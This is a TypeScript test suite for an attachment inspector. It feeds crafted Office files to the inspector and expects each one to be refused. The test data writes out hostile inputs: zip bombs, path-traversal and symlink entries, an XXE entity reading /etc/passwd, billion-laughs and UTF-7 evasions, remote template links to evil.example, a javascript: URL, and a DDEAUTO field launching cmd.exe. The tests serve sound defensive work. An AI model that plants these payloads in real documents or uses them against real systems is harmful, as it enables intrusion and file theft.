import { describe, expect, it } from 'vitest';
import { DOCX, XLSX } from '../../../shared/attachment/inspect/accepted-types.ts';
import { inspectContent } from '../../../shared/attachment/inspect/inspect-content.ts';
import {
  type CraftedPart,
  deflatedZeros,
  docxLinking,
  docxOf,
  docxParts,
  officeParts,
  overlappingZip,
  xlsxOf,
  zipOf,
} from './crafted-files.ts';

function inspect(bytes: Uint8Array, type: string = DOCX) {
  return inspectContent({
    bytes,
    declaredType: type,
    fileName: type === DOCX ? 'a.docx' : 'a.xlsx',
    allowedTypes: [DOCX, XLSX],
    maxBytes: 20 * 1_048_576,
  });
}

const media = (more: Partial<CraftedPart> = {}) => ({
  name: 'word/media/1.bmp',
  content: Buffer.alloc(200_000),
  ...more,
});
const sheet = (content: string | Buffer) => xlsxOf({ name: 'xl/worksheets/sheet1.xml', content });

describe('archives that are no documents', () => {
  it.each([
    ['a plain archive', zipOf([{ name: 'a.txt', content: 'a' }]), 'NOT_OFFICE'],
    [
      'a document without its main part',
      zipOf(docxParts().filter(({ name }) => !name.startsWith('word'))),
      'NOT_OFFICE',
    ],
    ['a document cut off', docxOf().subarray(0, -10), 'DAMAGED'],
    ['a document cut in half', docxOf().subarray(0, 300), 'DAMAGED'],
    ['an archive of nothing', Buffer.from('PK\x03\x04'), 'DAMAGED'],
    ['a changed byte', changedContent(), 'DAMAGED'],
    ['an archive with a head before it', shifted(), 'POLYGLOT'],
  ])('%s', (_title, bytes, code) => {
    expect(inspect(bytes)).toMatchObject({ ok: false, code });
  });
});

describe('parts that must not be there', () => {
  const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';

  it.each([
    ['macros', docxOf({ name: 'word/vbaProject.bin', content: 'x' }), 'MACRO'],
    ['macros in capitals', docxOf({ name: 'WORD/VBAPROJECT.BIN', content: 'x' }), 'MACRO'],
    ['controls', docxOf({ name: 'word/activeX/activeX1.bin', content: 'x' }), 'MACRO'],
    ['a document made for macros', zipOf(officeParts('word/document.xml', macroType, [])), 'MACRO'],
    ['a way up', docxOf({ name: '../../x', content: 'x' }), 'BAD_PART'],
    ['a path from the root', docxOf({ name: '/etc/passwd', content: 'x' }), 'BAD_PART'],
    ['a path of Windows', docxOf({ name: 'word\\x', content: 'x' }), 'BAD_PART'],
    ['a symbolic link', docxOf({ name: 'word/x', content: '/etc/passwd', mode: 0o120777 }), 'BAD_PART'],
    ['two of a name', docxOf({ name: 'word/a', content: '' }, { name: 'Word/A', content: '' }), 'BAD_PART'],
    ['two names for one', docxOf({ name: 'word/a', content: '', localName: 'word/b' }), 'BAD_PART'],
    ['a password', docxOf({ name: 'word/x', content: 'x', flags: 1 }), 'PASSWORD'],
    ['a password around it', encrypted(), 'PASSWORD'],
    ['an archive', docxOf({ name: 'word/media/1.zip', content: docxOf() }), 'NESTED'],
    ['an archive in an embedded document', nestedTwice(), 'NESTED'],
    ['a bad embedded document', embedding(docxOf({ name: 'word/vbaProject.bin', content: 'x' })), 'MACRO'],
  ])('%s', (_title, bytes, code) => {
    expect(inspect(bytes)).toMatchObject({ ok: false, code });
  });
});

describe('parts that grow', () => {
  it.each([
    [
      '256 MiB of zeros',
      () => docxOf(media({ content: '', packed: deflatedZeros(256), claimedBytes: 256 * 1_048_576 })),
      'BOMB',
    ],
    [
      '256 MiB that claim to be ten bytes',
      () => docxOf(media({ content: '', packed: deflatedZeros(256), claimedBytes: 10 })),
      'BOMB',
    ],
    ['a size that only one header claims', () => docxOf(media({ centralBytes: 10 })), 'BOMB'],
    ['a stored part that claims less', () => docxOf(media({ isStored: true, claimedBytes: 10 })), 'BOMB'],
    ['parts that share their bytes', () => overlappingZip(500), 'BOMB'],
    ['a part that claims more than it holds', () => docxOf(media({ claimedBytes: 300_000 })), 'DAMAGED'],
    ['endless lists of links', () => docxOf(...manyLinks()), 'TOO_MANY_PARTS'],
    [
      'endless fields',
      () => docxOf({ name: 'word/x.xml', content: Buffer.alloc(17 * 1_048_576, '<w:instrText>x') }),
      'BOMB',
    ],
    ['70,000 empty parts', () => zipOf(manyParts(70_000)), 'TOO_MANY_PARTS'],
    ['2,001 empty parts', () => zipOf(manyParts(2001)), 'TOO_MANY_PARTS'],
  ])('%s', (_title, craft, code) => {
    expect(inspect(craft())).toMatchObject({ ok: false, code });
  });

  it('are unpacked when they are honest', () => {
    expect(inspect(docxOf(media()))).toMatchObject({ ok: true });
  });
});

describe('the XML of a part', () => {
  const laughs = Array.from({ length: 10 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('');
  const external = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';

  it.each([
    ['an outside entity', sheet(external)],
    ['a billion laughs', sheet(`<!DOCTYPE x [<!ENTITY e0 "ha">${laughs}]><x>&e10;</x>`)],
    ['an entity in UTF-16', sheet(Buffer.from(`\ufeff${external}`, 'utf16le'))],
    ['an entity in a declared other encoding', sheet('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE')],
    ['an entity in a part of another name', xlsxOf({ name: 'xl/media/1.bin', content: external })],
    ['an entity behind much white space', xlsxOf({ name: 'xl/media/1.bin', content: ' '.repeat(5000) + external })],
    [
      'an encoding declared far behind',
      sheet(`<?xml version="1.0"${' '.repeat(600)}encoding="UTF-7"?>+ADwAIQ-DOCTYPE`),
    ],
  ])('%s is refused', (_title, bytes) => {
    expect(inspect(bytes, XLSX)).toMatchObject({ ok: false, code: 'XML_FORBIDDEN' });
  });

  it('is left alone when it only writes about them', () => {
    expect(inspect(sheet('<?xml version="1.0" encoding="utf-8"?><c>&lt;!DOCTYPE</c>'), XLSX)).toMatchObject({
      ok: true,
    });
  });
});

describe('links to outside', () => {
  it.each([
    'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"',
    "Target='http://evil.example/t.dotm' TargetMode = 'External' Type='http://x/attachedTemplate'",
    'Type="http://x/image" Target="https://evil.example/pixel.png" TargetMode="&#69;xternal"',
    'Type="http://x/hyperlink" Target="file:///c:/x.exe" TargetMode="External"',
    'Type="http://x/hyperlink" Target="\\\\evil.example\\share" TargetMode="External"',
    'Type="http://x/hyperlink" Target="javascript:alert(1)" TargetMode="External"',
    `Type="http://x/oleObject" Target='Type="/hyperlink" >' TargetMode="External"`,
  ])('are refused: %s', attributes => {
    expect(inspect(docxLinking(attributes))).toMatchObject({ ok: false, code: 'EXTERNAL_LINK' });
  });
});

describe('what a program fetches or starts by itself', () => {
  const field = (...runs: string[]) =>
    docxOf({
      name: 'word/document.xml',
      content: `<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs
        .map(run => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`)
        .join('')}</w:p></w:document>`,
    });
  const connection = '<connections><connection id="1"><webPr url="http://evil.example/q"/></connection></connections>';

  it.each([
    ['a command in a field', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')],
    ['a command in a field of several runs', field(' PAGE', ' d', 'de', ' c:\\\\x.exe')],
    [
      'a command in a short field',
      docxOf({ name: 'word/footer1.xml', content: '<w:fldSimple w:instr="&#68;DE x y"/>' }),
    ],
    ['a command in a workbook', xlsxOf({ name: 'xl/externalLinks/1.xml', content: '<ddeLink ddeService="cmd"/>' })],
    ['a query', xlsxOf({ name: 'xl/connections.xml', content: connection })],
  ])('%s is refused', (_title, bytes) => {
    const type = bytes.includes('xl/workbook.xml') ? XLSX : DOCX;
    expect(inspect(bytes, type)).toMatchObject({ ok: false, code: 'EXTERNAL_LINK' });
  });

  it('a file packed into an object is refused, a formula is not', () => {
    const object = (stream: string) =>
      docxOf({
        name: 'word/embeddings/oleObject1.bin',
        content: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from(stream, 'utf16le')]),
      });
    expect(inspect(object('\u0001Ole10Native'))).toMatchObject({ ok: false, code: 'NESTED' });
    expect(inspect(object('Equation Native'))).toMatchObject({ ok: true });
  });

  it.each([
    ['a page number', field(' PAGE \\* MERGEFORMAT ')],
    ['a picture of a page', field(' INCLUDEPICTURE \\d "C:\\\\x\\\\image.png" \\* MERGEFORMATINET ')],
    [
      'text about it',
      docxOf({ name: 'word/document.xml', content: '<w:t>DDEAUTO</w:t><w:instrText>PAGE</w:instrText>' }),
    ],
  ])('%s passes', (_title, bytes) => {
    expect(inspect(bytes)).toMatchObject({ ok: true });
  });
});

function changedContent(): Buffer {
  const bytes = zipOf(docxParts({ name: 'word/a.txt', content: 'unchanged', isStored: true }));
  bytes.write('U', bytes.indexOf('unchanged'));
  return bytes;
}

/** Bytes before the first part, with the offsets corrected. */
function shifted(): Buffer {
  const first = { name: 'hidden', content: 'x', isStored: true };
  const bytes = zipOf([first, ...docxParts()]);
  const directory = bytes.indexOf('PK\x01\x02', 0, 'latin1');
  const end = bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1');
  const entryBytes = 46 + first.name.length;
  bytes.writeUInt16LE(bytes.readUInt16LE(end + 10) - 1, end + 10);
  bytes.writeUInt32LE(bytes.readUInt32LE(end + 12) - entryBytes, end + 12);
  bytes.writeUInt32LE(directory + entryBytes, end + 16);
  return bytes;
}

function encrypted(): Buffer {
  const head = Buffer.from('d0cf11e0a1b11ae1', 'hex');
  return Buffer.concat([head, Buffer.alloc(1024), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(64)]);
}

function embedding(content: Buffer): Buffer {
  return docxOf({ name: 'word/embeddings/a.docx', content });
}

function nestedTwice(): Buffer {
  return embedding(embedding(docxOf()));
}

function manyParts(count: number): CraftedPart[] {
  return Array.from({ length: count }, (_, at) => ({ name: `word/media/${at}`, content: '', isStored: true }));
}

function manyLinks(): CraftedPart[] {
  return Array.from({ length: 9 }, (_, at) => ({
    name: `word/_rels/${at}.rels`,
    content: Buffer.alloc(1_048_576, ' '),
  }));
}
